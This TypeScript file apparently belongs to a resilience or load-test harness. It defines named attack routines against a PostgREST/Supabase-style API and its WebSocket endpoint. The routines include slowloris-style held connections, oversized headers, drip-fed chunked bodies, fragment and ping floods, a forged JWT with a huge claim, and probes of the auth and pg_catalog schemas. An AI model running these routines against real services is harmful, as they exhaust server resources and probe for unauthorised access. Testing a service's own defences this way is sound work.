import { headOf, hold, openSocket, raw, repeat, send, type Attack } from './attackTools.ts';

/** Attacks on what looks harmless: heads, preferences, descriptions, pings, clients that leave. */
export const subtleAttacks: Readonly<Record<string, Attack>> = {
  'the description of the API': (attacker) => send(attacker, '/rest/v1/'),
  'tables that do not exist': (attacker) =>
    send(attacker, `/rest/v1/table_${attacker.random.below(1_000_000)}?select=*,a(*)`),
  'JSON paths and casts': (attacker) => {
    const { pick } = attacker.random;
    const column = pick(['team1', 'date', 'id']);
    const select = repeat(12, (index) => `c${index}:${column}->a->>b::text`).join(',');
    const order = repeat(10, (index) => `${column}->a${index}->b.desc.nullsfirst`).join(',');
    return send(attacker, `/rest/v1/results?select=${select}&order=${order}`);
  },
  'preferences and profiles': (attacker) => {
    const { pick } = attacker.random;
    const method = pick(['GET', 'HEAD', 'OPTIONS', 'PATCH', 'DELETE', 'POST']);
    return send(attacker, '/rest/v1/results?team1=like.*a*&offset=4000', {
      method,
      headers: {
        prefer: `count=${pick(['exact', 'planned', 'estimated'])},return=representation,resolution=merge-duplicates,missing=default,handling=strict`,
        'accept-profile': pick(['public', 'auth', 'pg_catalog']),
        accept: pick(['text/csv', 'application/vnd.pgrst.object+json', 'application/geo+json']),
        range: `${pick(['0', '4999', '99999999999'])}-`,
      },
      ...(method === 'POST' && { body: '[{"team1":"a"}]' }),
    });
  },
  'tokens with large claims': (attacker) => {
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const claims = { role: 'authenticated', exp: 9e9, sub: 'x'.repeat(9_000) };
    const token = `${part({ alg: 'HS512', typ: 'JWT' })}.${part(claims)}.${'a'.repeat(86)}`;
    return send(attacker, '/rest/v1/results?limit=1', {
      headers: { authorization: `Bearer ${token}` },
    });
  },
  async 'requests that nobody waits for'(attacker) {
    const sockets = repeat(20, () => raw(attacker));
    for (const socket of sockets) socket.write(headOf(attacker, 'GET /rest/v1/results?limit=1000'));
    await hold(attacker, 100);
    for (const socket of sockets) socket.destroy();
  },
  async 'large heads on many connections'(attacker) {
    const head = headOf(attacker, 'GET /rest/v1/results?limit=1', [
      `x-much: ${'a'.repeat(15_000)}`,
    ]);
    const sockets = repeat(20, () => raw(attacker));
    for (const socket of sockets) socket.write(head.repeat(90));
    await hold(attacker, 3_000);
    for (const socket of sockets) socket.destroy();
  },
  async 'pages that are not read'(attacker) {
    const sockets = repeat(10, () => raw(attacker).pause());
    for (const socket of sockets) socket.write(headOf(attacker, 'GET /resultados').repeat(2_000));
    await hold(attacker, 5_000);
    for (const socket of sockets) socket.destroy();
  },
  async 'bodies that are announced'(attacker) {
    const sockets = repeat(20, () => raw(attacker));
    const headers = ['Content-Length: 60000', 'Expect: 100-continue'];
    for (const socket of sockets) {
      socket.write(headOf(attacker, 'POST /auth/v1/token?grant_type=password', headers));
    }
    await hold(attacker, 3_000);
    for (const socket of sockets) socket.destroy();
  },
  async 'bodies of single bytes'(attacker) {
    const socket = raw(attacker);
    socket.write(headOf(attacker, 'POST /rest/v1/results', ['Transfer-Encoding: chunked']));
    for (let count = 0; count < 60 && !socket.destroyed; count += 1) {
      socket.write('1;extension=x\r\n[\r\n'.repeat(1_000));
      await hold(attacker, 20);
    }
    socket.destroy();
  },
  async 'messages in fragments'(attacker) {
    const socket = await openSocket(attacker);
    for (let count = 0; count < 50_000 && !attacker.signal.aborted; count += 1) {
      socket?.send('x', { fin: false });
      if (count % 1_000 === 0) await hold(attacker, 20);
    }
    await hold(attacker, 2_000);
    socket?.terminate();
  },
  async 'pings without reading'(attacker) {
    const socket = await openSocket(attacker);
    socket?.pause();
    for (let count = 0; count < 100_000 && !attacker.signal.aborted; count += 1) {
      socket?.ping('x'.repeat(125));
      if (count % 1_000 === 0) await hold(attacker, 20);
    }
    socket?.terminate();
  },
};
